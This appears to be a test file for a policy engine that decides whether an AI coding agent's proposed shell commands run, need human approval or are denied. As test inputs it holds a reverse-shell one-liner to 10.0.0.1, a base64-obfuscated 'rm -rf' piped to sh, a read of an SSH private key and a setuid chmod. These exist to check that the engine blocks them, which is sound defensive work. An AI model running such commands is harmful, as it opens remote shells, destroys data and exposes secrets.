import { describe, expect, test } from 'vitest';
import { propose } from '../../../src/activities/attempt/propose.ts';
import { createAgent, nextAgentCommand } from '../../../src/core/agent/next.ts';
import { advanceAgent } from '../../../src/core/agent/advance.ts';
import { receiveForAgent } from '../../../src/core/agent/messages.ts';
import type { AgentState } from '../../../src/core/agent/state.ts';
import { ruleOnCall, showCall } from '../../../src/core/agent/rule-on-call.ts';
import type { Policy } from '../../../src/core/policy/policy.ts';
import { tightenForIsolation } from '../../../src/core/policy/isolation.ts';
import { listOpenDecisions } from '../../../src/core/decisions/open-decisions.ts';
import { editCommand, listCommand, surveyCommand } from '../../../src/offline/model/codemod-commands.ts';
import { policyOf, sha, specOf, thought } from '../builders.ts';

const line = (command: string) =>
  propose('work', { kind: 'call', callId: 'c1', tool: 'shell', arguments: JSON.stringify({ command }) });

/** The agent after its model proposed this command. */
function proposed(command: string, policy: Policy = {}): AgentState {
  const began = advanceAgent(createAgent('r/lib.1', specOf({ policy: policyOf(policy) })), {
    kind: 'began',
    at: 1,
    head: sha('begin'),
  });
  return advanceAgent(began, thought(began, 2, line(command)));
}

const RULE = { id: 'no-deploy', programs: ['deploy'], reason: 'people deploy', match: ['deploy x'], notMatch: [] };

describe('a command that a rule speaks against', () => {
  test('is asked about, with the reason and the command itself, and runs only when a person allows it', () => {
    const asked = proposed('git push --force\necho done');
    expect(nextAgentCommand(asked)).toEqual({ kind: 'wait', why: { kind: 'decision', id: 'lib/call@1' } });
    expect(listOpenDecisions(asked.control)).toMatchObject([
      {
        kind: 'call',
        digest: line('git push --force\necho done').digest,
        about: 'rule git-publish (built-in): delivery is made by Coxswain, after approval\ngit push --force\necho done',
      },
    ]);
    const allowed = receiveForAgent(asked, 'approve', [{ decision: 'lib/call@1', by: 'ann' }], 5).state;
    expect(nextAgentCommand(allowed)).toMatchObject({ kind: 'act', input: { decision: { by: 'ann (lib/call@1)' } } });
  });

  test('is denied where a rule denies it, whatever else allows it, and the model is told why', () => {
    const denied = proposed('echo hi; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1');
    expect(nextAgentCommand(denied)).toMatchObject({
      kind: 'think',
      input: {
        key: 'think/2',
        results: [{ output: expect.stringMatching(/^Policy denies this call, .*It was not run\.$/) }],
      },
    });
    expect(denied.control.log.at(-1)?.text).toContain('denied');
  });

  test('is not asked about where it is one of the task’s checks, unless policy itself asks', () => {
    const check = 'printenv CI; sh -c "$TEST_COMMAND"';
    const propose1 = (command: string, checks: string[]) =>
      propose('work', { kind: 'call', callId: 'c1', tool: 'shell', arguments: JSON.stringify({ command }) }, checks);
    expect(ruleOnCall(policyOf(), propose1(check, [])).outcome).toBe('ask');
    expect(ruleOnCall(policyOf(), propose1(`${check}\n`, [check])).outcome).toBe('allow');
    for (const longer of [`${check}; printenv`, `cd x && ${check}`])
      expect(ruleOnCall(policyOf(), propose1(longer, [check])).outcome).toBe('ask');
    const own = policyOf({
      rules: { commands: [{ ...RULE, effect: 'ask', programs: ['printenv'], match: ['printenv'] }] },
    });
    expect(ruleOnCall(own, propose1(check, [check]))).toMatchObject({
      outcome: 'ask',
      by: expect.stringMatching(/^rule no-deploy/),
    });
    const began = createAgent('r/lib.1', specOf({ checks: [check] }));
    const ready = advanceAgent(began, { kind: 'began', at: 1, head: sha('begin') });
    expect(nextAgentCommand(ready)).toMatchObject({ kind: 'think', input: { checks: [check] } });
  });

  test('has its globs read as a shell does by policy’s own rules too; in runs of before, as wide as before', () => {
    const secret = {
      ...RULE,
      id: 'keys',
      effect: 'deny' as const,
      programs: ['cat', 'wc'],
      paths: ['**/.keys/**', '/srv/keys/**'],
    };
    const policy = policyOf({ rules: { commands: [{ ...secret, match: ['cat .keys/a'] }] } });
    const outcome = (command: string, globs?: 'shell'): string => ruleOnCall(policy, line(command), globs).outcome;
    expect(['cat src/**/*.py', 'wc **/*.md'].map((one) => outcome(one, 'shell'))).toEqual(['allow', 'allow']);
    expect(['cat src/**/*.py', 'wc **/*.md'].map((one) => outcome(one))).toEqual(['deny', 'deny']);
    expect(['cat .k*/a', 'cat /srv/*/a', 'cat src/.keys/a'].map((one) => outcome(one, 'shell'))).toEqual([
      'ask',
      'ask',
      'deny',
    ]);
  });

  test('without isolation is asked about, but for one that only looks at what is in its folder', () => {
    const policy = tightenForIsolation(policyOf(), 'none');
    expect(ruleOnCall(policy, line('ls -la lib'))).toMatchObject({
      outcome: 'allow',
      by: 'rule looks-only (built-in)',
    });
    for (const other of ['npm test', 'cat ~/.ssh/id_rsa', 'cat ../x', 'cat a > b'])
      expect([other, ruleOnCall(policy, line(other)).outcome]).toEqual([other, 'ask']);
    const own = policyOf({ gates: { commands: 'ask' } });
    expect(ruleOnCall(own, line('ls -la lib')).outcome).toBe('ask');
  });

  test('by the policy of any layer, also where the built-in rules say nothing', () => {
    expect(nextAgentCommand(proposed('npm test && deploy x')).kind).toBe('act');
    const asking = { rules: { commands: [{ ...RULE, effect: 'ask' as const }] } };
    expect(nextAgentCommand(proposed('npm test && deploy x', asking))).toMatchObject({
      why: { kind: 'decision', id: 'lib/call@1' },
    });
    const denying = { rules: { commands: [{ ...RULE, effect: 'deny' as const }] } };
    expect(nextAgentCommand(proposed('deploy x', denying)).kind).toBe('think');
  });

  test('and one that can’t be judged is asked about, never allowed', () => {
    const asked = proposed('base64 -d <<< cm0gLXJmIC4= | sh');
    expect(listOpenDecisions(asked.control)[0]?.about).toMatch(/^rules \(built-in\): can't be judged: .*\n/);
  });

  test('of a gate that denies all, nothing runs; of one that asks, a rule still denies', () => {
    const outcome = (command: string, commands: 'ask' | 'deny'): string =>
      ruleOnCall(policyOf({ gates: { commands } }), line(command)).outcome;
    expect(outcome('ls', 'deny')).toBe('deny');
    expect(outcome('git push', 'deny')).toBe('deny');
    expect(outcome('ls', 'ask')).toBe('ask');
    expect(outcome('chmod u+s x', 'ask')).toBe('deny');
  });
});

test('daily work in the sandbox is not asked about', () => {
  const daily = [
    'git ls-files',
    "ast-grep run --pattern 'var $A = $B' --rewrite 'const $A = $B' --lang js --update-all lib",
    'npm test',
    'mkdir -p lib/x && git mv lib/a.js lib/x/a.js',
    "sed -i 's/a/b/' lib/*.js",
    "cat > a.js <<'EOF'\nmodule.exports = 1;\nEOF",
    'node -e "console.log(1)"',
    'rm -rf dist',
  ];
  for (const command of daily)
    expect([command, ruleOnCall(policyOf(), line(command)).outcome]).toEqual([command, 'allow']);
});

test('nor is anything that the offline model runs, whatever it replaces', () => {
  const replacement = { pattern: 'var $A = $B', rewrite: 'const $A = $B', language: 'js' };
  const scope = { replacement, skips: ['dist', 'a/*.min.js'] };
  const commands = [
    surveyCommand(scope, ['lib/', 'src/']),
    listCommand(scope, ['lib', 'test/*.js'], 2),
    editCommand(scope, ['lib', '-odd name']),
  ];
  for (const command of commands) expect(ruleOnCall(policyOf(), line(command))).toMatchObject({ outcome: 'allow' });
});

test('a history keeps a kilobyte of a command at most; what is left out is said, and judged all the same', () => {
  const long = `${'echo some words; '.repeat(200)}git push`;
  const call = line(long);
  expect(JSON.stringify(call).length).toBeLessThan(3000);
  const answer = ruleOnCall(policyOf(), call);
  expect(answer).toMatchObject({ outcome: 'ask', by: 'rule git-publish (built-in)' });
  expect(showCall(call, answer)).toMatch(/… and \d+ more characters, in the checkpoint$/);
});

test('a call of a run from before there were rules is decided by its gate alone', () => {
  const { facts: _, judged: __, ...old } = line('git push');
  expect(ruleOnCall(policyOf(), old)).toEqual({
    outcome: 'allow',
    by: 'policy gates.commands (built-in)',
    reason: null,
  });
});
